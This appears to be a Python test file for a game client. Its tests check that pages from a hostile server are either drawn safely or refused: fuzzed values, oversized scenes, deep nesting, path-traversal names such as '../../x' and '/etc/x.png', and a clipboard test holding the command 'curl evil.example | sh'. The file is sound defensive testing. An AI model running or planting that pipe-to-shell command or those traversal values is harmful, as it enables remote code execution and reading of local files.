"""Pages of a hostile server: whoever joined it draws each of them, or says that it cannot be shown."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from functools import cache
from random import Random
from typing import Any

import msgspec
import pytest

os.environ.setdefault("SDL_VIDEODRIVER", "dummy")
os.environ.setdefault("SDL_AUDIODRIVER", "dummy")

import pygame

from fivefold.app.network.link import Connected, Lost, Received
from fivefold.app.network.page_check import LONGEST_TEXT, check_amounts
from fivefold.app.network.remote_session import COPY_WITHIN_MS, RemoteSession
from fivefold.app.pages.inputs import BackgroundsFound, BoardHover, BoardPointer, PressButton
from fivefold.app.pages.pages import PlayingPage
from fivefold.app.pages.parts import BoardGrid, BoardPart
from fivefold.core.errors import BadNotation
from fivefold.core.game import SceneContext
from fivefold.core.game_parts.facts import Facts
from fivefold.core.input import Press
from fivefold.core.scene.shapes import Picture
from fivefold.core.values import replace
from fivefold.fronts.terminal.screen.colours import ColourDepth
from fivefold.fronts.terminal.terminal_view import TerminalView
from fivefold.fronts.window.view import WindowView
from fivefold.games import game_named
from fivefold.play.animate import animate
from fivefold.play.piece_tracker import PieceTracker
from fivefold.service.server_tokens import LONGEST_TOKEN, ServerTokens
from tests.app.network.test_remote_session import FakeLink
from tests.conftest import SliceOf, chunks
from tests.fronts.terminal.sample_pages import pages as sample_pages

TEXTS = (
    "",
    "x",
    "\x1b[31m",
    "\0",
    "a" * LONGEST_TEXT,
    "a" * (LONGEST_TEXT + 1),
    "../../x",
    "y\n" * 2000,
    "0",
)
INTEGERS = (0, -1, 1, 7, 255, 10**6, 10**9, -(10**9), 2**62)
NUMBERS = (0.0, -1.0, 1e-9, 0.5, 1e5, 1e9, -1e9, 1e30, 1e308)
LONG_TEXTS = {
    "long": "a" * 2000,
    "longest": "a" * LONGEST_TEXT,
    "words": "a b " * 2500,
    "lines": "a\n" * 2000,
    "control": "\0\x1b\u202e",
}
MOMENTS = (0.0, 50.0, 400.0, 3000.0)
BAD = "the server sent something that cannot be shown"


@cache
def seeds() -> dict[str, str]:
    """Return whole pages as a server sends them, by name."""
    pages = {**sample_pages(), "moving": moving_page()}
    return {name: json.dumps(msgspec.to_builtins(page, str_keys=True)) for name, page in pages.items()}


def moving_page() -> PlayingPage:
    """Return a page with an animation and with interaction data."""
    laser = game_named("laser")
    state = laser.start()
    tracker = PieceTracker.of(state.pieces())
    before = laser.scene(SceneContext(state, tracker.names))
    step = state.apply(laser.read_move(state, "j4+"))
    names = tracker.follow(step.beats).names
    after = laser.scene(SceneContext(step.state, names, last=step.beats))
    moving = animate(before, step.beats, after, tracker)
    data = laser.interaction(step.state, preview=True)
    board = BoardPart("laser", after, animation=moving, interaction=data, grid=BoardGrid(10, 8))
    return PlayingPage(title="Laser chess", game="laser", board=board, facts=Facts("Red to move"), status="")


def joined(tree: object, *, size: tuple[int, int] = (1280, 800)) -> tuple[RemoteSession, FakeLink]:
    """Return a session that got this page, drawn by both front ends at several moments."""
    link = FakeLink()
    session = RemoteSession(link)
    link.put(Connected())
    link.put(Received(json.dumps({"sequence": 1, "page": tree, "resumed": False})))
    session.tick(0.0)
    if not link.reconnected:
        draw(session, size)
    return session, link


def draw(session: RemoteSession, size: tuple[int, int]) -> None:
    pygame.display.init()
    surface, window = pygame.Surface(size), WindowView(session, size)
    terminal = TerminalView(session, ColourDepth.TRUE, lambda *_: ())
    terminal.resize(size[0] // 10, size[1] // 20)
    for moment in MOMENTS:
        window.now = moment
        window.paint(surface)
        terminal.frame(moment)


def places(tree: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yield the paths to all values of a page."""
    items = tree.items() if isinstance(tree, dict) else enumerate(tree) if isinstance(tree, list) else ()
    for key, value in items:
        yield (*path, key)
        yield from places(value, (*path, key))


def hostile(dice: Random, value: Any) -> Any:
    """Return another value of the same type."""
    match value:
        case bool():
            return not value
        case str():
            return dice.choice(TEXTS)
        case int():
            return dice.choice(INTEGERS)
        case float():
            return dice.choice(NUMBERS)
        case list():
            return dice.choice(([], value[::-1], value[: len(value) // 2], value * 3, value * 2000))
        case dict():
            return {key: each for key, each in value.items() if key == "type" or dice.random() < 0.8}
    return value


def mutated(dice: Random, text: str) -> Any:
    """Return a page with one to three values changed."""
    tree = json.loads(text)
    for _ in range(dice.randint(1, 3)):
        *path, last = dice.choice(list(places(tree)))
        part = tree
        for key in path:
            part = part[key]
        part[last] = hostile(dice, part[last])
    return tree


@chunks(20)
def test_a_mutated_page_is_drawn_or_refused(chunk: int, slice_of: SliceOf) -> None:
    dice, drawn, refused = Random(f"pages {chunk}"), 0, 0
    for _ in range(slice_of(250, 40)):
        name = dice.choice(list(seeds()))
        tree = mutated(dice, seeds()[name])
        try:
            _, link = joined(tree, size=dice.choice(((1280, 800), (480, 800))))
        except Exception as error:
            raise AssertionError(f"{name}: {json.dumps(tree)[:3000]}") from error
        drawn += not link.reconnected
        refused += link.reconnected
    assert drawn > 0
    assert refused > 0


@pytest.mark.parametrize("name", seeds())
def test_every_page_of_ours_is_drawn(name: str) -> None:
    _, link = joined(json.loads(seeds()[name]))
    assert not link.reconnected


def changed(path: str, value: object, name: str = "moving") -> Any:
    """Return a page with one value changed, by a path such as board.scene.width."""
    tree = json.loads(seeds()[name])
    *keys, last = (int(key) if key.isdecimal() else key for key in path.split("."))
    part = tree
    for key in keys:
        part = part[key]
    part[last] = value
    return tree


REFUSED = {
    "huge scene": ("board.scene.width", 1e9),
    "tiny scene": ("board.scene.width", 1e-9),
    "huge piece": ("board.scene.shapes.1.x", 1e12),
    "many shapes": ("board.scene.shapes", json.loads(seeds()["moving"])["board"]["scene"]["shapes"] * 200),
    "endless animation": ("board.animation.length", 1e9),
    "animation of the far future": ("board.age", -1e9),
    "loop without length": ("board.animation", {"length": 0.0, "loop": True}),
    "loop that holds": ("board.animation", {"length": 10.0, "loop": True, "holds": True}),
    "file of this device": (
        "board.scene.shapes",
        [{"type": "Picture", "id": "p", "name": "/etc/x.png", "x": 0, "y": 0, "width": 1, "height": 1}],
    ),
    "huge board": ("board.interaction.width", 10**6),
    "huge grid": ("board.grid.width", 10**6),
    "unknown template": ("board.interaction.cursor", [999]),
    "unknown status": ("board.interaction.picks", {"0": {"status": 9}}),
    "unknown icon": ("buttons", [{"type": "Button", "id": "a", "label": "b", "icon": "../../../x"}]),
    "long title": ("title", "a" * (LONGEST_TEXT + 1)),
    "many buttons": ("buttons", [{"type": "Button", "id": "a", "label": "b"}] * 1000),
}


def test_a_card_of_no_game_is_refused() -> None:
    cards = [{"type": "GameCard", "id": "a", "game": "", "title": "b", "text": "c", "pieces": []}]
    _, link = joined(changed("cards", cards, "home"))
    assert link.reconnected == 1


@pytest.mark.parametrize(("path", "value"), REFUSED.values(), ids=REFUSED)
def test_a_page_out_of_bounds_is_refused_with_a_sentence(path: str, value: object) -> None:
    session, link = joined(changed(path, value))
    link.put(Lost())
    session.tick(1.0)
    assert link.reconnected == 1
    assert BAD in str(session.page)


def test_differences_cannot_multiply_lists() -> None:
    session, link = joined(
        {**json.loads(seeds()["moving"]), "notices": [{"type": "Notice", "text": "x"}] * 10}
    )
    doubled = {"f": {"notices": {"l": [[0, 10]] * 100_000}}}
    link.put(Received(json.dumps({"sequence": 2, "change": doubled})))
    session.tick(1.0)
    assert link.reconnected == 1


def test_lists_within_lists_are_counted_before_they_are_walked_through() -> None:
    nested: list[Any] = []
    for _ in range(20):  # 100 to the power of 20 values, if each was looked at
        nested = [nested] * 100
    with pytest.raises(BadNotation):
        check_amounts(nested)


def test_deep_nesting_is_refused() -> None:
    for depth in (100, 500, 900, 990, 2000, 100_000):
        link = FakeLink()
        session = RemoteSession(link)
        content = '{"sequence":1,"page":' + "[" * depth + "]" * depth + "}"
        link.put(Received(content))
        session.tick(0.0)
        assert link.reconnected == 1


def effects_of(session: RemoteSession, link: FakeLink, *effects: dict[str, str]) -> tuple[object, ...]:
    link.put(Received(json.dumps({"sequence": 2, "effects": effects})))
    session.tick(COPY_WITHIN_MS + 1)
    return session.effects()


def test_the_clipboard_is_written_only_after_the_player_did_something() -> None:
    session, link = joined(json.loads(seeds()["moving"]))
    copy = {"type": "CopyText", "text": "curl evil.example | sh"}
    assert effects_of(session, link, copy) == ()
    session.handle(PressButton("copy"))
    assert len(effects_of(session, link, copy)) == 1


def test_effects_are_counted() -> None:
    session, link = joined(json.loads(seeds()["moving"]))
    assert len(effects_of(session, link, *[{"type": "PlaySound", "name": "x"}] * 10_000)) < 100


def test_a_long_token_does_not_cost_those_of_other_servers(tmp_path: Any) -> None:
    tokens = ServerTokens(tmp_path)
    tokens.keep("http://club.example/", "secret")
    tokens.keep("http://evil.example/", "x" * (LONGEST_TOKEN + 1))
    tokens.keep("http://evil.example/", "x" * (1 << 21))
    assert tokens.token("http://club.example/") == "secret"
    assert tokens.token("http://evil.example/") == ""


def test_the_server_learns_no_path_and_chooses_no_folder() -> None:
    page = moving_page()
    scene = replace(page.board.scene, shapes=(*page.board.scene.shapes, Picture("p", "1", 0, 0, 9, 9)))
    tree = msgspec.to_builtins(replace(page, board=replace(page.board, scene=scene)), str_keys=True)
    tree["appearance"] = {"backgrounds_folder": "/etc", "theme": "no such", "text": 100_000}
    link = FakeLink()
    session = RemoteSession(link)
    session.handle(BackgroundsFound(("/home/ann/a.png", "/home/ann/b.png"), ("'c.png' is not an image",)))
    link.put(Connected())
    link.put(Received(json.dumps({"sequence": 1, "page": tree})))
    session.tick(0.0)
    shown = session.page
    assert "/home" not in str(link.sent)
    assert "c.png" not in str(link.sent)
    assert (shown.appearance.backgrounds_folder, shown.appearance.theme, shown.appearance.text) == (
        "",
        "dark",
        100,
    )
    assert isinstance(shown, PlayingPage)
    assert "/home/ann/b.png" in [each.name for each in shown.board.scene.shapes if isinstance(each, Picture)]


@pytest.mark.parametrize("size", [(1280, 800), (480, 800), (360, 600)])
@pytest.mark.parametrize("text", LONG_TEXTS.values(), ids=LONG_TEXTS)
def test_long_and_odd_text_is_drawn_wherever_it_stands(text: str, size: tuple[int, int]) -> None:
    answers = [{"type": "Button", "id": "a", "label": text}, {"type": "Button", "id": "b", "label": "No"}]
    tree = json.loads(seeds()["form"])
    tree |= {"title": text, "subtitle": text, "help": text, "problem": text, "note": text, "caption": text}
    tree["notices"] = [{"type": "Notice", "text": text}] * 20
    tree["buttons"] = answers
    for part in (tree, {**tree, "question": {"text": text, "detail": text, "answers": answers}}):
        _, link = joined(part, size=size)
        assert not link.reconnected


def test_a_target_to_which_no_way_leads_can_be_pointed_at() -> None:
    style = {"walks": True, "lines": [0]}
    line = {"type": "Line", "id": "way", "points": [], "paint": "accent"}
    data = {"width": 10, "height": 8, "templates": [line], "styles": [style]}
    data["picks"] = {"0": {"targets": [{"move": "a8*", "style": 0, "cells": [25]}]}}
    tree = changed("board.interaction", data)
    del tree["board"]["animation"]
    session, link = joined(tree)
    session.handle(BoardPointer(Press(0.5, 0.5)))
    session.handle(BoardHover((5.5, 2.5)))
    assert session.page.title == "Laser chess"
    assert not link.reconnected
